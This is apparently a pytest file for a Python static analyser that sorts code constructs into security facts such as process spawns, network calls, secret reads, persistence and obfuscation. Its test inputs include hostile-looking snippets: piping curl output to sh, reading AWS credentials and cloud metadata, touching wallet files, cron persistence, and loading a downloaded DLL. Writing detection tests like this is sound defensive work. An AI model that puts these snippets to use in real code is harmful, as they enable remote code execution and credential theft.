"""The vocabulary: which call is which fact, and what is quiet."""

import pytest

from lazaretto.core.facts import Fact, Kind, Moment
from tests.languages.python_reading import only, read, read_any, values

CASES: list[tuple[str, Kind, str | None]] = [
    ("import os\nos.execvp('sh', ['sh', '-c', 'id'])", Kind.PROCESS_SPAWN, "sh -c id"),
    ("import pty\npty.spawn('/bin/sh')", Kind.PROCESS_SPAWN, "/bin/sh"),
    ("import subprocess\nsubprocess.run(args=['a', 'b'])", Kind.PROCESS_SPAWN, "a b"),
    ("import marshal\nexec(marshal.loads(data))", Kind.CODE_EVAL, None),
    ("import pickle\npickle.loads(x)", Kind.CODE_EVAL, None),
    ("import runpy\nrunpy.run_path('x.py')", Kind.CODE_EVAL, "x.py"),
    ("import types\ntypes.FunctionType(code, {})", Kind.CODE_EVAL, None),
    (
        "import urllib.request\nurllib.request.urlretrieve('https://a.invalid/x', 'x')",
        Kind.NET_CONNECT,
        "https://a.invalid/x",
    ),
    (
        (
            "import ctypes, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x', '/x/y.dll')\n"
            "ctypes.CDLL('/x/y.dll')"
        ),
        Kind.PROCESS_SPAWN,
        "/x/y.dll",
    ),
    ("import http.client\nhttp.client.HTTPSConnection('a.invalid')", Kind.NET_CONNECT, "a.invalid"),
    ("import git\ngit.Repo.clone_from('https://a.invalid/x', 'x')", Kind.NET_CONNECT, "https://a.invalid/x"),
    ("import git\ngit.Git('x').clone('https://a.invalid/x')", Kind.NET_CONNECT, "https://a.invalid/x"),
    ("import boto3\nboto3.Session().get_credentials()", Kind.SECRET_READ, "boto3 credentials"),
    ("exec(chr(int(float('112.0'))))", Kind.CODE_EVAL, "p"),
    ("exec(chr(int(float('x'))))", Kind.CODE_EVAL, None),
    ("exec(chr(int(float(x, y))))", Kind.CODE_EVAL, None),
    ("A = 'aHR0cHM6Ly9hLmludmFsaWQvaW4='", Kind.LITERAL_URL, "https://a.invalid/in"),
    ("import httpx\nwith httpx.Client() as c:\n    c.post('https://a.invalid')", Kind.NET_CONNECT, "https://a.invalid"),
    ("import requests\ns = requests.Session()\ns.get('https://a.invalid')", Kind.NET_CONNECT, "https://a.invalid"),
    ("import smtplib\nsmtplib.SMTP('mail.invalid', 25)", Kind.NET_CONNECT, "mail.invalid"),
    ("import os\nos.system('curl -s https://a.invalid/x | sh')", Kind.NET_CONNECT, "https://a.invalid/x"),
    ("import socket\ns = socket.socket()\ns.bind(('', 80))", Kind.NET_LISTEN, ":80"),
    ("import socket\nsocket.gethostbyname('a.invalid')", Kind.DNS_QUERY, "a.invalid"),
    ("from pathlib import Path\nPath('a', 'b').read_text()", Kind.FS_READ, "a/b"),
    ("from pathlib import Path\n(Path.home() / 'x').write_text('y')", Kind.FS_WRITE, "~/x"),
    ("import shutil\nshutil.rmtree('/nonexistent/x')", Kind.FS_DELETE, "/nonexistent/x"),
    ("import os\nos.remove(__file__)", Kind.FS_SELF_DELETE, "__file__"),
    ("import os, sys\nos.unlink(os.path.abspath(sys.argv[0]))", Kind.FS_SELF_DELETE, "__file__"),
    ("from pathlib import Path\nPath(__file__).unlink()", Kind.FS_SELF_DELETE, "__file__"),
    ("import os\nos.environ.get('LANG')", Kind.ENV_READ, "LANG"),
    ("import os\nos.getenv('NPM_TOKEN')", Kind.SECRET_READ, "NPM_TOKEN"),
    ("import os, json\njson.dumps(dict(os.environ))", Kind.ENV_DUMP, None),
    ("import os\nfor k, v in os.environ.items():\n    pass", Kind.ENV_DUMP, None),
    (
        "import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))",
        Kind.SECRET_READ,
        "~/.aws/credentials",
    ),
    (
        "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
        Kind.SECRET_READ,
        "http://169.254.169.254/latest/meta-data/",
    ),
    ("import keyring\nkeyring.get_password('svc', 'me')", Kind.SECRET_READ, "keyring:svc"),
    (
        "import os\nopen(os.path.join(os.getenv('APPDATA'), 'Bitcoin/wallet.dat'))",
        Kind.WALLET_TOUCH,
        "%APPDATA%/Bitcoin/wallet.dat",
    ),
    ("import sys\nsys.meta_path.insert(0, Finder())", Kind.MODULE_HOOK, "sys.meta_path"),
    ("import builtins\nbuiltins.open = mine", Kind.MODULE_HOOK, "builtins.open"),
    ("import requests\ndef post(*a): pass\nrequests.post = post", Kind.MODULE_HOOK, "requests.post"),
    ("import requests\nsetattr(requests, 'post', lambda *a: None)", Kind.MODULE_HOOK, "requests.post"),
    ("open('/etc/cron.d/x', 'w').write('y')", Kind.PERSIST, "/etc/cron.d/x"),
    ("import os\nos.system('crontab -')", Kind.PERSIST, "crontab -"),
    (
        "import os\nos.system('curl https://bun.sh/install | bash')",
        Kind.RUNTIME_FETCH,
        "bun",
    ),
    ("from cryptography.fernet import Fernet\nFernet(k).decrypt(b'x')", Kind.DECRYPT, "Fernet"),
    ("from Crypto.Cipher import AES\nAES.new(k, 1).decrypt(b'x')", Kind.DECRYPT, "AES"),
    ("import a.b", Kind.IMPORT, "a.b"),
    ("__import__('a.b')", Kind.IMPORT, "a.b"),
    ("__import__(name)", Kind.IMPORT, ""),
    ("x = 'https://a.invalid/p?q'", Kind.LITERAL_URL, "https://a.invalid/p?q"),
    ("x = 'c2.invalid'", Kind.LITERAL_DOMAIN, "c2.invalid"),
    ("x = '198.51.100.7'", Kind.LITERAL_IP, "198.51.100.7"),
    ("x = 'someone@mail.invalid'", Kind.LITERAL_EMAIL, "someone@mail.invalid"),
    ("x = '/etc/passwd'", Kind.LITERAL_PATH, "/etc/passwd"),
    (f"x = '{'ab' * 32}'", Kind.LITERAL_HASH, "ab" * 32),
    ("x = 'curl -O x'", Kind.LITERAL_COMMAND, "curl -O x"),
    ("x = '\u202e'", Kind.HIDDEN_TEXT, "bidi"),
    ("x = 1;" + " " * 250 + "y = 2", Kind.HIDDEN_TEXT, "far-right"),
    ("".join(f"IlIlIlIl{'I' * n}l = {n}\n" for n in range(9)), Kind.OBFUSCATED, "confusable-names"),
    ("from pyarmor_runtime import __pyarmor__", Kind.OBFUSCATED, "pyarmor"),
]


@pytest.mark.parametrize(
    ("source", "kind", "value"), CASES, ids=[f"{kind.value}-{at}" for at, (_, kind, _) in enumerate(CASES)]
)
def test_vocabulary(source: str, kind: Kind, value: str | None) -> None:
    """Each construction is told once, with its value."""
    found = only(read(source), kind)

    assert (found.value, found.moment) == (value, Moment.LOAD)


def test_imports_are_told_as_written() -> None:
    """``from a import b`` names both; relative imports keep their dots; imports in functions are calls."""
    facts = read("from a import b, c as d\nfrom . import e\nfrom ..f.g import h\ndef k():\n    import z\n")

    assert set(values(facts, Kind.IMPORT, Moment.LOAD)) == {".", ".e", "..f.g", "..f.g.h", "a", "a.b", "a.c"}
    assert values(facts, Kind.IMPORT, Moment.CALL) == ["z"]


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("['git', 'add'] + x", "git add {}"),
        ("x + ['--quiet']", "{} --quiet"),
        ("('cc', '-c') + x", "cc -c {}"),
        ("b'ab' + x", "ab{}"),
        ("['python', '-c', 'import os'] + x", "python -c import os {}"),
    ],
)
def test_a_command_with_words_that_are_not_known(words: str, expected: str | None) -> None:
    """What is known of it is told, with a gap where the other words go."""
    facts = read(f"import subprocess\ndef f(x):\n    subprocess.run({words})\n")

    assert values(facts, Kind.PROCESS_SPAWN, Moment.CALL) == [expected]
    assert facts.problems == ()


def test_the_ending_of_a_temporary_file_is_known() -> None:
    """Its name is made up when it is made; what it ends with is not."""
    facts = read(
        "import subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.c') as file:\n"
        "    subprocess.run(['cc', '-c', file.name])\n"
    )

    assert only(facts, Kind.PROCESS_SPAWN).value == "cc -c /tmp/{}.c"


QUIET = [
    '"""See https://docs.invalid and ~/.aws/credentials."""',
    "def f():\n    'mail someone@mail.invalid'\n",
    "# https://comment.invalid",
    "import os, subprocess\nsubprocess.run(['true'], env=os.environ)",
    "import os, subprocess\nenv = dict(os.environ)\nenv['LC_ALL'] = 'C'\nsubprocess.run(['true'], env=env)",
    "import os, subprocess\nsubprocess.run(['true'], env={**os.environ, 'A': 'b'})",
    "from base64 import *\nI = b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC0lEQVR42mNk+M9QDwADhgGA')",
    "import re\nPATTERN = re.compile('a' + 'b')",
    "NAMES = ['a', 'b']\nprint(', '.join(NAMES))",
    "import requests\nrequests.timeout = 5",
]
SPEAKING = {
    Kind.ENV_DUMP,
    Kind.DECODE,
    Kind.OBFUSCATED,
    Kind.HIDDEN_TEXT,
    Kind.SECRET_READ,
    Kind.MODULE_HOOK,
    Kind.CODE_EVAL,
}


@pytest.mark.parametrize("source", QUIET)
def test_ordinary_code_is_quiet(source: str) -> None:
    """Docstrings, comments, environments of children and pictures say nothing."""
    facts = read(source).facts

    assert [fact for fact in facts if fact.kind in SPEAKING or fact.kind.value.startswith("literal.url")] == []


def test_spans_are_exact() -> None:
    """A span names the bytes of the call as published, also behind a byte order mark and other letters."""
    source = "\ufeffx = 'é'; import os\nos.system('a')\n".encode()

    fact: Fact = only(read_any(source), Kind.PROCESS_SPAWN)

    assert source[fact.span.start : fact.span.end] == b"os.system('a')"
    assert (fact.span.line, fact.span.column) == (2, 0)


def test_carriage_returns_end_lines() -> None:
    """Python ends a line at a lone carriage return: a comment does not hide what follows it."""
    assert values(read("import os # \ros.system('a')\r"), Kind.PROCESS_SPAWN) == ["a"]


def test_an_encoding_that_hides_is_told() -> None:
    """A source encoding in which a comment is code is decoded, told, and makes the file incomplete."""
    facts = read_any(b"# coding: unicode_escape\n# \\x0aimport os; os.system('a')\n")

    assert values(facts, Kind.PROCESS_SPAWN) == ["a"]
    assert values(facts, Kind.HIDDEN_TEXT) == ["encoding unicode-escape"]
    assert facts.problems


def test_a_foreign_encoding_is_read() -> None:
    """Latin-1 source is read without a problem."""
    facts = read_any("# -*- coding: latin-1 -*-\nimport os\nos.system('café')\n".encode("latin-1"))

    assert (values(facts, Kind.PROCESS_SPAWN), facts.problems) == (["café"], ())


CALLABLE = """
import os, threading
class T:
    def __call__(self, *given):
        os.system('id')
t = T()
"""


@pytest.mark.parametrize(
    ("use", "moment"),
    [
        ("", Moment.CALL),
        ("def f():\n    t()\n", Moment.CALL),
        ("t()\n", Moment.LOAD),
        ("@t\ndef f(): ...\n", Moment.LOAD),
        ("threading.Timer(0, t).start()\n", Moment.LOAD),
        ("threading.Thread(target=t).start()\n", Moment.LOAD),
    ],
)
def test_an_object_is_called_where_it_is_called(use: str, moment: Moment) -> None:
    """To make an object that can be called calls nothing; who calls it, or hands it to who does, runs it."""
    (fact,) = [fact for fact in read(CALLABLE + use).facts if fact.kind is Kind.PROCESS_SPAWN]

    assert fact.moment is moment
